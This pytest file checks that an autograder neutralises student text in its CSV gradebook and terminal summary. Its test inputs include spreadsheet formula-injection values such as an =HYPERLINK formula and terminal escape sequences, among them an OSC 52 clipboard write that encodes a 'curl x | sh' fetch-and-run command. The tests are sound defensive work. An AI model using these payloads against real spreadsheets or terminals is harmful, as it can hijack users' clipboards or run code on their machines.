"""The notebooks' gradebook and cell table write student text as data (issue 19): an id, a
notebook or cell name or a detail that starts like a spreadsheet formula is neutralised, and a
lone carriage return cannot start a row."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest

from autograder.notebooks.course import ClassResult, StudentResult, _write_gradebook

HOSTILE = ['=HYPERLINK("http://x","y")', "=SUM(K2:K9)", "+1", "-1", "@x", "\tx", "a\rb"]


@pytest.mark.parametrize("text", HOSTILE, ids=["hyperlink", "sum", "plus", "minus", "at", "tab", "cr"])
def test_nb_gradebook_neutralises_student_text(tmp_path, text):
    student = StudentResult(text, {"deck": 3.0}, {"deck": 5.0}, details=[text],
                            cells=[{"notebook": text, "cell": text, "score": 1.0, "max_score": 1.0}])
    _write_gradebook(ClassResult("cards", tmp_path, [student], ["deck"]))
    for name in ("gradebook.csv", "cells.csv"):
        with open(tmp_path / name, newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        assert len(rows) == 2, f"{name}: {text!r} split the table into {len(rows)} rows"
        cells = [cell for cell in rows[1] if cell]
        assert not any(cell[0] in "=+-@\t\r" for cell in cells), \
            f"{name} wrote {text!r} as {rows[1]!r}: a spreadsheet would run it as a formula"


TERMINAL = ["[/]", "[bold red]100/100[/]", "\x1b[2J\x1b[3J", "\x1b]52;c;Y3VybCB4IHwgc2g=\x07", "a\rb"]


@pytest.mark.parametrize("text", TERMINAL, ids=["close-tag", "markup", "clear-screen", "osc52", "cr"])
def test_nb_terminal_summary_shows_student_text_as_text(capsys, text):
    """The autograde summary (table, need-a-look lines, notes) never parses a student's id or
    details as Rich markup and prints no control character: the class always gets its summary."""
    from autograder.notebooks.course import _print_summary

    student = StudentResult(text, {"deck": 3.0}, {"deck": 5.0}, ["tampered"], details=[text],
                            restored=[text])
    _print_summary(ClassResult("cards", Path("out"), [student], ["deck"], notes=[text]))
    out = capsys.readouterr().out
    assert not any(ch in out for ch in "\x1b\x07\r"), repr(out)
    assert "[/]" in out or "\\x1b" in out or "\\r" in out, f"the student's text is not shown: {out!r}"
